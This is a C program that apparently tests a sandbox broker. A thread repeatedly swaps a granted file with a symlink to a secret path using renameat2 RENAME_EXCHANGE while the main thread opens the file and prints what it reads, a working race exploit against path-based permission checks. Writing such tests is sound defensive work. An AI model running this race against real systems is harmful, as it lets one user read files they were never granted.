/* Exchanges a name in a folder that the broker granted between a file and a link to a secret, while another thread opens it: the
 * first touch raises a question, and what is answered must hold for the object that it names (pitfall 14). */
#include "attack.h"
#include <pthread.h>

static char a[4096], b[4096];
static volatile int done;

static void *swapper(void *unused)
{
	while (!done)
		syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
	return unused;
}

int main(int argc, char **argv)
{
	char buffer[4096];
	pthread_t thread;
	snprintf(a, sizeof a, "%s/raced", argv[1]);
	snprintf(b, sizeof b, "%s/raced-link", argv[1]);
	tried();
	int made = open(a, O_CREAT | O_WRONLY, 0600);
	if (made < 0)
		return denied("create");
	close(made);
	if (symlink(argv[2], b))
		denied("symlink");
	pthread_create(&thread, 0, swapper, 0);
	for (int i = 0; i < 5000; i++) {
		int fd = open(a, i & 1 ? O_RDONLY : O_RDWR);
		ssize_t length = fd < 0 ? 0 : read(fd, buffer, sizeof buffer);
		if (length > 0)
			fwrite(buffer, 1, length, stdout);
		if (fd >= 0)
			close(fd);
	}
	done = 1;
	pthread_join(thread, 0);
	return 0;
}
